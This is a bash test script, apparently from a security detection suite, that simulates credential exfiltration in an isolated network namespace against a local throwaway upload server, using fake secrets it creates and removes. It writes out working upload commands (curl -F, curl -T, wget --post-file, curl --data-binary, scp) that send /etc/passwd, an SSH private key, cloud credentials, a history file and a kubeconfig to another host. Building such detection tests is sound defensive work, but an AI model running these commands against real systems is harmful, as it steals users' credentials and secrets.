#!/bin/bash
# desc: credential files handed to upload commands bound for another host: curl -F @/etc/passwd, curl -T of an SSH private key, wget --post-file of cloud credentials, curl --data-binary @ of a history file, scp of a kubeconfig
# mitre: T1048, T1567, T1552.001
# expect: sensitive_file_uploaded*5
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
# The receiving web server: takes any upload, answers 200.
in_ns /usr/bin/python3 - "$PEER" <<'PY' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_any(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
    do_POST = do_PUT = do_any
s = http.server.HTTPServer((sys.argv[1], 8080), H); s.timeout = 20
for _ in range(4): s.handle_request()
PY
wait_listen "$PEER" 8080
u=http://$PEER:8080/up
# The throwaway user's secrets, made for this run (names unique to it, removed at exit).
key=$ATTACK_HOME/.ssh/id_ed25519_$ATTACK_ID aws=$ATTACK_HOME/.aws/credentials_$ATTACK_ID
kube=$ATTACK_HOME/.kube/config_$ATTACK_ID hist=$ATTACK_HOME/.mysql_history_$ATTACK_ID
undo "rm -f '$key' '$key.pub' '$aws' '$kube' '$hist'"
as_user sh -c "mkdir -p ~/.ssh ~/.aws ~/.kube && ssh-keygen -q -t ed25519 -N '' -f '$key' &&
	printf '[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n' > '$aws' &&
	printf 'apiVersion: v1\nkind: Config\n' > '$kube' && echo 'select 1;' > '$hist'"
curl -s -F "f=@/etc/passwd" "$u" -o /dev/null
as_user curl -s -T "$key" "$u" -o /dev/null
as_user wget -q -O /dev/null --post-file="$aws" "$u"
as_user curl -s --data-binary "@$hist" "$u" -o /dev/null
# scp to a host without an ssh server: the copy is attempted, the login fails
timeout 10 scp -o BatchMode=yes -o ConnectTimeout=3 "$kube" "root@$PEER:/tmp/" >/dev/null 2>&1 || true
wait
